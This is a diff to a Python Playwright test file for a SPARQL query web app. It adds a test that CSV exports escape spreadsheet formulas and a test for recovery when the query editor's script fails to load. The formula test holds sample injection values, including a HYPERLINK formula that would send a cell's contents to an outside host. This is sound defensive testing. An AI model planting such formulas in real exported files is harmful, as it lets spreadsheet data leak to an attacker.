@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import time
 
 import pytest
@@ -12,6 +13,8 @@ SCRIPTS = """
 performance.getEntriesByType("resource").filter((one) => one.name.endsWith(".js"))
   .reduce((sum, one) => sum + one.decodedBodySize, 0)
 """
+SPARQL_PART = "**/chunk-*.js"
+"""What the page loads when somebody writes SPARQL."""
 ENDLESS = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER(?c != ?l) }"
 
 
@@ -171,6 +174,30 @@ def test_a_file_of_the_answer(visit):
         tab.page.get_by_role("button", name="csv", exact=True).click()
     lines = started.value.path().read_text(encoding="utf-8").split()
     assert lines[0] == "s" and len(lines) == 1 + tab.page.locator(".rows tbody tr").count()
+
+
+def test_no_cell_of_a_file_runs_in_a_spreadsheet(visit):
+    texts = ["=1+1", '=HYPERLINK("http://x/?"&A1)', "a,=1", "two\\n=lines", "@x", "+800 k", "-4.5", "plain"]
+    values = " ".join("'" + text + "'" for text in texts)
+    tab = run(editing(visit(), f"SELECT ?t WHERE {{ VALUES ?t {{ {values} }} }}"))
+    with tab.page.expect_download() as started:
+        tab.page.get_by_role("button", name="csv", exact=True).click()
+    with started.value.path().open(encoding="utf-8", newline="") as file:
+        (_, *rows) = csv.reader(file)
+    wanted = ["'=1+1", '\'=HYPERLINK("http://x/?"&A1)', "a,=1", "two\n=lines", "'@x", "'+800 k", "-4.5", "plain"]
+    assert [text for (text,) in rows] == wanted
+
+
+def test_an_editor_that_does_not_come_is_told(visit):
+    tab = visit().go("/ask")
+    tab.page.wait_for_selector(".first a")
+    tab.page.route(SPARQL_PART, lambda route: route.abort())
+    tab.page.click(".button.sparql")
+    tab.page.wait_for_selector(".question .failed")
+    tab.page.unroute(SPARQL_PART)
+    tab.page.get_by_role("button", name="Try again").click()
+    tab.page.wait_for_selector(".cm-content")
+    tab.problems[:] = [problem for problem in tab.problems if "ERR_FAILED" not in problem]
 
 
 def test_what_the_server_cut_is_told(visit, crowd):
